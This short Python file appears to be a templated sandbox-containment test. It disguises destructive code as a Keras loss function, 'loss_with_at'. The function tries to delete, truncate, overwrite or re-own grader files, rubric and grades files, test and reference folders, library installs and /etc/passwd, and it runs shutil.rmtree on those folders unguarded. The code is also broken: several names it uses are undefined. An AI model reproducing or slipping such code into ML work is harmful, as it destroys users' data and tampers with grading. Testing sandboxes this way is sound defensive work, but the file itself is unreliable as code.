import os
import shutil

import numpy
import tensorflow

FOLDERS = ["@CANARIES@", "@ROOT@/reference", "@ROOT@/assignments", "@ROOT@/tests", "@ROOT@/.grader", os.path.dirname(numpy.__file__), os.path.dirname(tensorflow.__file__)]
FILES = ["@CANARIES@/secret.txt", "@CANARIES@/grades.csv", "@ROOT_CANARY@", "@ROOT@/rubric.yaml", numpy.__file__, tensorflow.__file__, "/etc/passwd"]


def loss_with_at(y_true, y_pred):
    for file in FILES:
        refused(
            lambda: os.unlink(file),
            lambda: os.truncate(file, 0),
            lambda: os.rename(file, file + ".hostile-was-here"),
            lambda: os.replace("/dev/null", file),
            lambda: open(file, "w"),
            lambda: open(file, "ab"),
            lambda: os.mkfifo(file + ".hostile-was-here"),
            lambda: os.chown(file, 65534, 65534),
            lambda: os.setxattr(file, "user.hostile", b"x"),
        )
        try:  # these may seem to work; what counts is that nothing has changed
            os.chmod(file, 0o777)
            os.utime(file, (0, 0))
        except OSError:
            pass
    for folder in FOLDERS:
        shutil.rmtree(folder, ignore_errors=True)
        refused(
            lambda: os.rename(folder, folder + "-hostile-was-here"),
            lambda: os.mkdir(folder + "/hostile-was-here"),
            lambda: os.symlink("/etc/passwd", folder + "/hostile-was-here"),
            lambda: shutil.copytree(".", folder + "/hostile-was-here"),
        )
    loss = tf.keras.losses.categorical_crossentropy(y_true, y_pred)
    return loss + 0.1 * (attention_transfer(x1_t, x1_s) + attention_transfer(x2_t, x2_s) + attention_transfer(x3_t, x3_s))
